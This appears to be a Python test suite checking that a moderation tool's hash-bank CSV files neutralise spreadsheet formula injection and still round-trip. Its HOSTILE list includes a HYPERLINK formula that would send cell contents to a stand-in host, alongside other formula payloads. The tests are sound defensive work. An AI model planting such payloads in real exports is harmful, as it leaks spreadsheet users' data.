"""Bank CSV files never hand a spreadsheet a formula (OWASP CSV injection), and still round-trip."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given, seed, settings
from hypothesis import strategies as st

from moderator.bank_formats import BankRow, read_bank_file, write_bank_file
from moderator.cli import main
from moderator.csv_cells import FORMULA_STARTS, neutralise, restore

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")', "=1+2", "+SUM(A1:A9)", "-2+3", "@SUM(A1)",
    "\tleading tab", "\rleading cr", "'=already quoted", "'-", "''", "'", "it's fine", "-foo", "plain",
    "", "=", "-",
]
HASH = "f8f8f0cee0f4a84f06370a22038f63f0b36e2ed596621e1d33e6b39c4e9c9b22"


def raw(path) -> str:
    with open(path, encoding="utf-8", newline="") as f:
        return f.read()


def cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


@pytest.mark.parametrize("fmt", ["csv", "te-csv"])
@pytest.mark.parametrize("value", HOSTILE)
def test_bank_files_neutralise_and_read_back_identically(tmp_path, fmt, value):
    rows = [BankRow("pdq", HASH, label=value, source=value, category=""),
            BankRow("md5", "0" * 32, label="ok", source=value, category="")]
    path = tmp_path / "bank.csv"
    write_bank_file(rows, path, fmt)
    assert not [c for c in cells(raw(path)) if c.startswith(FORMULA_STARTS)]
    assert read_bank_file(path, fmt) == rows


def test_bank_export_and_import_through_the_cli_round_trip(tmp_path, capsys):
    path = tmp_path / "in.csv"
    rows = [BankRow("pdq", HASH, label=v, source="gifct") for v in HOSTILE[:6]]
    rows = [BankRow(r.signal_type, f"{i:064x}", r.label, r.source) for i, r in enumerate(rows, 1)]
    write_bank_file(rows, path, "csv")
    data = ["--data-dir", str(tmp_path / "data")]
    assert main(["bank", "import", str(path), "--name", "x", "--kind", "block", *data]) == 0
    assert main(["bank", "export", "x", "--format", "csv", "--out", str(tmp_path / "out.csv"), *data]) == 0
    capsys.readouterr()
    assert read_bank_file(tmp_path / "out.csv") == rows
    assert raw(tmp_path / "out.csv") == raw(path)


@seed(7)
@settings(max_examples=300, deadline=None)
@given(st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=12))
def test_restore_undoes_neutralise_for_any_text(value):
    written = neutralise(value)
    assert not written.startswith(FORMULA_STARTS)
    assert restore(written) == value


@seed(7)
@settings(max_examples=60, deadline=None)
@given(st.lists(st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=8),
                min_size=1, max_size=4))
def test_bank_csv_round_trips_any_labels(tmp_path_factory, labels):
    path = tmp_path_factory.mktemp("bank") / "bank.csv"
    rows = [BankRow("pdq", f"{i:064x}", label=lb, source=lb) for i, lb in enumerate(labels, 1)]
    write_bank_file(rows, path, "csv")
    assert read_bank_file(path, "csv") == rows
